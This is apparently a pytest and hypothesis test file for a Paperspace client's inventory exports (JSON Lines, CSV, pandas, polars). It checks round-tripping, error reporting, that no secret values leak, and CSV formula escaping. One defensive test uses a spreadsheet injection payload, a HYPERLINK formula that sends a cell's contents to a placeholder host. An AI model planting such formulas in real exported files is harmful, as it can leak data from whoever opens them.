"""What an inventory yields, as JSON Lines that keep all of it, and as tables for people."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from paperspace_projects import (
    ActivityEvent,
    Client,
    Collaborator,
    InvalidArgumentError,
    Model,
    NotFoundError,
    PaperspaceError,
    Project,
    ProjectFailure,
    ProjectSnapshot,
    RateLimitError,
    Secret,
)
from paperspace_projects.errors import OutcomeUnknownServerError
from paperspace_projects.inventory import (
    COLUMNS,
    Result,
    Written,
    from_json,
    read_jsonl,
    records,
    to_json,
    to_pandas,
    to_polars,
    write_csv,
    write_jsonl,
)
from paperspace_projects.inventory.scheduler import PARTS
from paperspace_projects.testing import Emulator

WHEN = datetime(2026, 3, 18, 9, 30, 0, 123456, tzinfo=timezone(timedelta(hours=2)))
PROJECT = Project(id="p1", name="vision", description="d", team_id="t1", dt_created=WHEN)
SNAPSHOT = ProjectSnapshot(
    project=PROJECT,
    collaborators=(Collaborator(user_id="u1", role="admin"), Collaborator(user_id="u2")),
    secrets=(Secret(name="TOKEN"),),
    tags=("gpu", 'a "quoted", one'),
    models=(Model(id="m1", name="a model"),),
)
FAILURE = ProjectFailure(
    project_id="p2",
    error=NotFoundError("404", operation="getProject", method="GET", path="/projects/p2"),
    is_gone=True,
    name="two",
)

# Text of any kind, lone surrogates, quotes, line separators and formulas included.
TEXTS = st.text(st.characters(exclude_categories=[]), max_size=12) | st.sampled_from(
    ["=1+1", "-1", "\ud800", "a\u2028b", "\r\n", '"', ""]
)
TIMES = st.none() | st.datetimes(
    datetime(1, 1, 2), datetime(9999, 12, 30), timezones=st.just(UTC) | st.just(WHEN.tzinfo)
)
MAYBE = st.none() | TEXTS
JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    # an object of JSON has text as its keys
    | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=5,
)
EXTRA = st.dictionaries(TEXTS, JSON, max_size=2)


def some(kind: type, **fields: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(st.builds(kind, **fields, extra=EXTRA), max_size=2).map(tuple)


SNAPSHOTS = st.builds(
    ProjectSnapshot,
    project=st.builds(
        Project, id=TEXTS, name=TEXTS, description=MAYBE, dt_created=TIMES, extra=EXTRA
    ),
    collaborators=some(Collaborator, user_id=TEXTS, email=MAYBE, role=MAYBE),
    secrets=some(Secret, name=TEXTS, dt_created=TIMES, dt_modified=TIMES),
    tags=st.lists(TEXTS, max_size=3).map(tuple),
    models=some(Model, id=TEXTS, name=MAYBE),
    activity=some(ActivityEvent, id=TEXTS, type_=MAYBE, dt_created=TIMES),
    included=st.lists(st.sampled_from(PARTS), unique=True).map(tuple),
)
ERRORS = st.builds(
    NotFoundError,
    TEXTS,
    operation=TEXTS,
    method=st.just("GET"),
    path=TEXTS,
    attempts=st.integers(1, 4),
    status_code=st.just(404),
    code=MAYBE,
    message=MAYBE,
    details=JSON,
    issues=st.lists(TEXTS, max_size=2).map(tuple),
    request_id=MAYBE,
)
FAILURES = st.builds(
    ProjectFailure, project_id=TEXTS, name=st.none() | TEXTS, error=ERRORS, is_gone=st.booleans()
)
RESULTS = st.lists(SNAPSHOTS | FAILURES, max_size=3)


def written(results: list[Result]) -> str:
    file = io.StringIO()
    write_jsonl(results, file)
    return file.getvalue()


@given(RESULTS)
def test_json_lines_lose_nothing(results: list[Result]) -> None:
    text = written(results)
    assert text.isascii()
    assert len(text.splitlines()) == len(results)
    again = list(read_jsonl(io.StringIO(text)))
    assert again == results
    for before, after in zip(results, again, strict=True):
        assert type(before) is type(after)
        if isinstance(before, ProjectFailure) and isinstance(after, ProjectFailure):
            assert vars(after.error) == vars(before.error)
            assert after.error.args == before.error.args


@pytest.mark.parametrize(
    "error",
    [
        PaperspaceError("plain"),
        InvalidArgumentError("project_id", "a string"),
        RateLimitError(
            "429", operation="o", method="GET", path="/p", status_code=429, retry_after=1.5
        ),
        OutcomeUnknownServerError("500", operation="o", method="GET", path="/p", status_code=500),
    ],
    ids=lambda error: type(error).__name__,
)
def test_each_kind_of_error_comes_back(error: PaperspaceError) -> None:
    error.add_note("attempt 1: 429")
    failure = ProjectFailure(project_id="p", error=error, is_gone=False)
    again = from_json(json.loads(json.dumps(to_json(failure))))
    assert again == failure
    assert isinstance(again, ProjectFailure)
    assert vars(again.error) == vars(error)
    assert json.loads(json.dumps(to_json(failure)))["error"]["text"] == str(error)


def test_an_error_of_the_users_own_class_comes_back_as_the_base() -> None:
    class Own(PaperspaceError):
        pass

    failure = ProjectFailure(project_id="p", error=Own("mine"), is_gone=False)
    again = from_json(to_json(failure))
    assert isinstance(again, ProjectFailure)
    assert (type(again.error), str(again.error)) == (PaperspaceError, "mine")


def test_results_are_written_as_they_come(tmp_path: Path) -> None:
    file = io.StringIO()
    lengths: list[int] = []

    def coming() -> Iterator[Result]:
        for result in (SNAPSHOT, FAILURE, SNAPSHOT):
            lengths.append(len(file.getvalue().splitlines()))
            yield result

    assert write_jsonl(coming(), file) == Written(snapshots=2, failures=1)
    assert lengths == [0, 1, 2]
    file.truncate(0)
    lengths.clear()
    assert write_csv(coming(), file) == Written(snapshots=2, failures=1)
    assert lengths == [1, 2, 3]
    with (tmp_path / "inventory.jsonl").open("w") as real:
        write_jsonl([SNAPSHOT], real)
        write_jsonl([FAILURE], real)
    with (tmp_path / "inventory.jsonl").open() as real:
        assert list(read_jsonl(real)) == [SNAPSHOT, FAILURE]


@pytest.mark.parametrize(
    "line",
    ["{", "[]", "7", "{}", '{"error": 1}', '{"project": {}}', "null", "[" * 100_000],
    ids=lambda line: line[:16],
)
def test_a_line_that_was_not_written_so_is_named(line: str) -> None:
    lines = io.StringIO(written([SNAPSHOT]) + "\n" + line + "\n")
    results = read_jsonl(lines)
    assert next(results) == SNAPSHOT
    with pytest.raises(InvalidArgumentError, match="line 3 must be one that write_jsonl"):
        next(results)


def test_a_time_that_is_none_is_named() -> None:
    text = written([SNAPSHOT]).replace(WHEN.isoformat(), "yesterday")
    with pytest.raises(InvalidArgumentError, match=r"line 1 .*\$\.project\.dt_created"):
        list(read_jsonl(io.StringIO(text)))


def test_records_are_flat_and_name_what_is_held() -> None:
    first, second = records([SNAPSHOT, FAILURE])
    assert tuple(first) == tuple(second) == COLUMNS
    assert first == {
        "project_id": "p1",
        "name": "vision",
        "description": "d",
        "team_id": "t1",
        "dt_created": "2026-03-18T07:30:00.123456+00:00",
        "collaborators": ["u1", "u2"],
        "secrets": ["TOKEN"],
        "tags": ["gpu", 'a "quoted", one'],
        "models": ["m1"],
        "activity": None,
        "error": None,
        "message": None,
        "is_gone": False,
    }
    assert {key: value for key, value in second.items() if value is not None} == {
        "project_id": "p2",
        "name": "two",
        "error": "NotFoundError",
        "message": str(FAILURE.error),
        "is_gone": True,
    }


@given(RESULTS, st.booleans())
def test_csv_can_be_read_by_its_columns(results: list[Result], escape: bool) -> None:
    file = io.StringIO(newline="")
    write_csv(results, file, escape_formulas=escape)
    file.getvalue().encode()
    file.seek(0)
    rows = list(csv.DictReader(file))
    for row, record in zip(rows, records(results), strict=True):
        for column, value in record.items():
            cell = row[column]
            if isinstance(value, list):
                assert json.loads(cell) == value
            elif isinstance(value, bool):
                assert cell == str(value).lower()
            else:
                assert cell.removeprefix("'" if escape else "") == (value or "").removeprefix(
                    "'" if escape else ""
                )


@given(TEXTS)
def test_no_cell_of_csv_is_a_formula(text: str) -> None:
    file = io.StringIO(newline="")
    project = Project(id=text, name=text, description=text)
    write_csv([msgspec.structs.replace(SNAPSHOT, project=project, tags=(text,))], file)
    file.seek(0)
    for cell in list(csv.reader(file))[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_a_formula_is_escaped_unless_it_is_not_to_be() -> None:
    formula = '=HYPERLINK("https://x.example/?"&A1)'
    failure = ProjectFailure(project_id=formula, error=PaperspaceError("@"), is_gone=False)
    for escape, first in ((True, f"'{formula}"), (False, formula)):
        file = io.StringIO(newline="")
        write_csv([failure], file, header=False, escape_formulas=escape)
        (row,) = csv.reader(io.StringIO(file.getvalue()))
        assert row[0] == first


def test_no_value_of_a_secret_is_in_any_output() -> None:
    value = "a-secret-value-QXZk"
    with (
        Emulator() as emulator,
        Client(emulator.api_key, transport=emulator.transport()) as client,
    ):
        scope = client.project(client.projects.create("vision").id)
        scope.secrets.create("TOKEN", value)
        results = list(client.inventory(include=["secrets", "activity"]))
        file = io.StringIO()
        write_jsonl(results, file)
        write_csv(results, file)
    assert "TOKEN" in file.getvalue()
    assert value not in file.getvalue()
    assert emulator.api_key not in file.getvalue()


@pytest.mark.parametrize(("make", "package"), [(to_pandas, "pandas"), (to_polars, "polars")])
def test_a_frame_says_what_it_needs(
    make: Any, package: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, package, None)  # as if it were not there
    with pytest.raises(ImportError, match=f"pip install {package}"):
        make([SNAPSHOT])
